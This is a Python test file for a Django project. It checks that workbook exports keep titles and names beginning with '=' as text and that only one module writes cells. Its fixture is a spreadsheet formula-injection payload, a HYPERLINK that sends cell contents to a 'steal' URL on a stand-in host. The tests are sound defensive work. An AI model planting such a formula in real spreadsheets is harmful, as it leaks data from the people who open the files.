"""Every workbook the product writes goes through the one safe writer: text that starts
with «=» stays text (a title «=HYPERLINK(…)» must not run in whoever opens the file)."""

import ast
import datetime as dt
import io
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from tandem.resources.imports import template_xlsx as resources_template
from tandem.roster.export import template_xlsx as roster_template
from tandem.territory.models import Organization
from tandem.testing import World

FORMULA = '=HYPERLINK("http://example.org/steal?"&A1,"Открыть")'
ROOT = Path(__file__).resolve().parents[2]
SHEETS = {"sheet", "ws", "summary", "guide", "help_sheet"}


def _writes_cells_itself(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                and node.func.attr == "append" and isinstance(node.func.value, ast.Name)
                and (node.func.value.id in SHEETS or "sheet" in node.func.value.id)):
            found.append(f"{path.name}:{node.lineno} {node.func.value.id}.append")
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append(f"{path.name}:{node.lineno} .value =")
    return found


def test_no_module_but_the_writer_writes_cells() -> None:
    writers = [p for p in ROOT.rglob("*.py")
               if "tests" not in p.parts and p != ROOT / "web" / "xlsx.py"
               and "openpyxl" in p.read_text(encoding="utf-8")]
    assert writers  # the scan sees the exports
    assert [hit for p in writers for hit in _writes_cells_itself(p)] == []


def _formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def _texts(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}


def test_the_roster_template_keeps_an_organization_name_as_text(world: World) -> None:
    Organization.objects.filter(pk=world.org_a.pk).update(short_name=FORMULA)
    world.org_a.refresh_from_db()
    content = roster_template([world.org_a])
    assert FORMULA in _texts(content) and _formula_cells(content) == []


def test_the_resource_template_keeps_a_competency_name_as_text() -> None:
    content = resources_template([("ict.ai_lessons", FORMULA), ("x.y", "=1+1")])
    assert {FORMULA, "=1+1"} <= _texts(content) and _formula_cells(content) == []


@pytest.mark.django_db
def test_the_school_event_report_keeps_a_title_as_text() -> None:
    from tandem.school.documents import report_xlsx
    from tandem.school.models import Event
    from tandem.school.selectors import Report

    start = timezone.make_aware(dt.datetime(2027, 3, 1, 10))
    event = Event(title=FORMULA, starts_at=start, ends_at=start + dt.timedelta(hours=2))
    report = Report(registered=1, waiting=0, attended=1, certificates=0,
                    by_municipality=[(FORMULA, 1)], by_organization=[], by_sector=[])
    content = report_xlsx(event, report)
    assert FORMULA in _texts(content) and _formula_cells(content) == []
